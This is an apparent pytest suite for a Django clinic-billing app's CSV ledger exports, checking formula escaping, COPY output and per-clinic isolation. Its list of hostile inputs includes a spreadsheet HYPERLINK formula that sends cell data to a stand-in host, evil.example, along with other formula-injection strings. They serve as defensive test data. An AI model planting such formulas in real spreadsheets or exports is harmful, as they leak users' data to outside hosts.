"""The exports' CSV is the same, byte for byte, whichever way it is written: on PostgreSQL
it comes out of COPY with the formula rule and the time format in SQL, elsewhere through the
csv module. Each test compares with the rows written the way the exports always wrote them
(``csv_writer`` over ``timezone.localtime(...).isoformat()``), hostile text included."""

import csv
import io
from datetime import UTC, datetime
from io import StringIO

import pytest
from django.core.management import call_command
from django.db import connection
from django.db.models import DateTimeField, TextField, Value
from django.utils import timezone

from antidote import csv as csv_module
from antidote.csv import TIME, SafeText, csv_writer, export_csv, safe_cell
from billing import services
from billing.management.commands import export_ledger
from billing.models import CreditTransaction
from leads.models import Clinic
from tests.conftest import requires_postgres
from tests.factories import ClinicFactory, ClinicMemberFactory, StaffFactory, fund

pytestmark = pytest.mark.django_db

# Formula starts, CSV's own specials (comma, quote, line breaks), COPY's (a lone \., an empty
# text, a backslash) and text outside ASCII.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Refund")',
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=",
    " =1",
    "'already quoted",
    "a,b",
    'say "hi"',
    "two\nlines",
    "ends in CRLF\r\n",
    "\\.",
    "back\\slash\\N",
    "₹ डेंटल क्लिनिक",
    "NULL",
]


def _reference(header, rows) -> str:
    """The CSV as the exports wrote it before COPY: the csv module, row by row."""
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def _hostile_ledger():
    clinic = ClinicFactory(name='=1+1 "Smile, Dental"\n')
    fund(clinic, 1_000)
    for n, text in enumerate(HOSTILE):
        services.grant_credits(clinic=clinic, credits=1, idempotency_key=f"h:{n}", memo=text)
    staff = StaffFactory(username="@admin")
    services.adjust_credits(
        clinic=clinic, credits=-100, actor=staff, reason='-fix, "now"', idempotency_key="-1+1"
    )
    other = ClinicFactory(name="")
    fund(other, 5, key="")  # empty text where COPY would write ""
    return clinic


def _local(value):
    return timezone.localtime(value).isoformat()


def test_portal_csv_is_what_the_csv_module_writes(client):
    clinic = _hostile_ledger()
    client.force_login(ClinicMemberFactory(clinic=clinic).user)
    body = b"".join(client.get("/clinic/credits/history?format=csv").streaming_content).decode()
    entries = CreditTransaction.objects.filter(account__clinic=clinic).order_by("-id")
    expected = _reference(
        ["id", "created_at", "kind", "credits", "balance_after", "lead_id", "memo"],
        [
            [
                e.pk,
                _local(e.created_at),
                e.kind,
                e.credits,
                e.balance_after,
                e.lead_id or "",
                e.memo,
            ]
            for e in entries
        ],
    )
    assert body == expected
    assert len(list(csv.reader(io.StringIO(body)))) == len(HOSTILE) + 3


def test_export_ledger_is_what_the_csv_module_writes(tmp_path):
    _hostile_ledger()
    out = tmp_path / "ledger.csv"
    call_command("export_ledger", "--out", str(out), stdout=StringIO(), stderr=StringIO())
    expected = _reference(
        [
            "id",
            "created_at",
            "clinic_id",
            "clinic",
            "kind",
            "credits",
            "balance_after",
            "lead_id",
            "actor",
            "idempotency_key",
            "memo",
        ],
        [
            [
                e.pk,
                _local(e.created_at),
                e.account.clinic_id,
                e.account.clinic.name,
                e.kind,
                e.credits,
                e.balance_after,
                e.lead_id,
                e.actor.username if e.actor else None,
                e.idempotency_key,
                e.memo,
            ]
            for e in CreditTransaction.objects.select_related("account__clinic", "actor").order_by(
                "id"
            )
        ],
    )
    assert out.read_bytes().decode() == expected


@requires_postgres
@pytest.mark.parametrize("text", [*HOSTILE, "", "plain"])
def test_the_sql_twin_of_safe_cell_agrees_with_it(text):
    clinic = ClinicFactory()
    cell = (
        Clinic.objects.filter(pk=clinic.pk)
        .annotate(cell=SafeText(Value(text, output_field=TextField())))
        .values_list("cell", flat=True)
        .get()
    )
    assert (cell or "") == safe_cell(text)


@requires_postgres
@pytest.mark.parametrize(
    "moment",
    [
        datetime(2026, 3, 1, 18, 29, 59, 0, tzinfo=UTC),  # whole seconds: no fraction
        datetime(2026, 3, 1, 18, 30, 0, 1, tzinfo=UTC),
        datetime(2026, 12, 31, 23, 59, 59, 999_999, tzinfo=UTC),
        datetime(2001, 7, 4, 0, 0, 0, 120_000, tzinfo=UTC),
    ],
)
@pytest.mark.parametrize("zone", ["Asia/Kolkata", "UTC", "America/St_Johns", "Europe/London"])
def test_the_sql_twin_of_the_time_format_agrees_with_python(moment, zone):
    clinic = ClinicFactory()
    moments = Clinic.objects.filter(pk=clinic.pk).annotate(
        at=Value(moment, output_field=DateTimeField())
    )
    with timezone.override(zone):
        written = "".join(text for _, text in export_csv(moments, [("at", "at", TIME)]))
        assert written == f"at\r\n{timezone.localtime(moment).isoformat()}\r\n"
    with connection.cursor() as cursor:  # the session's time zone is as it was
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone()[0] == connection.timezone_name


def test_a_clinic_s_csv_holds_its_own_entries_only_whatever_the_filters(client):
    mine, theirs = ClinicFactory(), ClinicFactory()
    fund(mine, 10, key="mine:1")
    fund(theirs, 20, key="theirs:1")
    services.grant_credits(clinic=theirs, credits=3, kind="bonus", idempotency_key="theirs:2")
    client.force_login(ClinicMemberFactory(clinic=mine).user)
    today = timezone.localdate().isoformat()
    for query in ("", "&kind=bonus", f"&date_from={today}&date_to={today}", "&kind=purchase"):
        response = client.get(f"/clinic/credits/history?format=csv{query}")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        ids = {int(row[0]) for row in rows[1:]}
        assert ids <= set(
            CreditTransaction.objects.filter(account__clinic=mine).values_list("pk", flat=True)
        ), query
    purchases = client.get("/clinic/credits/history?format=csv&kind=purchase")
    body = b"".join(purchases.streaming_content).decode()
    assert len(body.splitlines()) == 2 and ",10,10," in body


def test_export_ledger_reports_progress_on_stderr(monkeypatch):
    monkeypatch.setattr(csv_module, "EXPORT_BATCH_ROWS", 1)
    monkeypatch.setattr(export_ledger, "PROGRESS_EVERY", 2)
    clinic = ClinicFactory()
    for n in range(5):
        fund(clinic, 1, key=f"p:{n}")
    stderr = StringIO()
    call_command("export_ledger", "--out", "-", stdout=StringIO(), stderr=stderr)
    assert stderr.getvalue().split() == ["2", "entries", "written", "4", "entries", "written"]
    quiet = StringIO()
    call_command("export_ledger", "--out", "-", "-v", "0", stdout=StringIO(), stderr=quiet)
    assert quiet.getvalue() == ""
